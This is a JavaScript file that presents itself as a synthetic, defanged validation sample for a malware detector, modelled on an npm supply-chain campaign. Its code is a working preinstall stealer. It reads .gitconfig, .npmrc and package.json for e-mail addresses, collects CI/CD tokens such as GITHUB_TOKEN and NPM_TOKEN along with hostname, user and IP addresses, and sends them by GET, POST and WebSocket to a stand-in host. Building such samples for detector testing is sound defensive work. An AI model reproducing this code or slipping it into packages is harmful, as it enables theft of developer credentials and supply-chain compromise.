// SYNTHETIC, DEFANGED malwi validation sample - modelled on the PhantomRaven campaign (2025, the package served from the remote URL); never run.
// Preinstall: collect developer e-mail addresses and CI/CD tokens, then send them three ways
// (GET query, POST body, WebSocket) so one of them gets out.
const os = require('os');
const fs = require('fs');
const path = require('path');
const http = require('http');
const { execSync } = require('child_process');

function emails() {
  const found = new Set();
  const tryRead = (p) => {
    try {
      return fs.readFileSync(p, 'utf8');
    } catch (e) {
      return '';
    }
  };
  const sources = [
    tryRead(path.join(os.homedir(), '.gitconfig')),
    tryRead(path.join(os.homedir(), '.npmrc')),
    tryRead(path.join(process.env.INIT_CWD || process.cwd(), 'package.json'))
  ];
  try {
    sources.push(execSync('git config user.email', { stdio: ['ignore', 'pipe', 'ignore'] }).toString());
  } catch (e) {}
  for (const s of sources) for (const m of s.match(/[\w.+-]+@[\w-]+\.[\w.-]+/g) || []) found.add(m);
  return [...found];
}

const ciKeys = ['GITHUB_TOKEN', 'GITHUB_ACTIONS', 'GITLAB_CI', 'CI_JOB_TOKEN', 'JENKINS_URL', 'BUILD_NUMBER', 'CIRCLECI', 'CIRCLE_TOKEN', 'NPM_TOKEN'];
const data = {
  emails: emails(),
  ci: Object.fromEntries(ciKeys.filter((k) => process.env[k]).map((k) => [k, process.env[k]])),
  host: os.hostname(),
  user: os.userInfo().username,
  ip: Object.values(os.networkInterfaces()).flat().map((i) => i && i.address)
};
const json = JSON.stringify(data);

http.get('http://packages.storeartifact.example.invalid/jpd.php?a=' + encodeURIComponent(Buffer.from(json).toString('base64')), () => {}).on('error', () => {});
const post = http.request({ host: 'packages.storeartifact.example.invalid', path: '/jpd.php', method: 'POST' });
post.on('error', () => {});
post.end(json);
try {
  const WebSocket = require('ws');
  const ws = new WebSocket('ws://packages.storeartifact.example.invalid/ws');
  ws.on('open', () => ws.send(json));
  ws.on('error', () => {});
} catch (e) {}
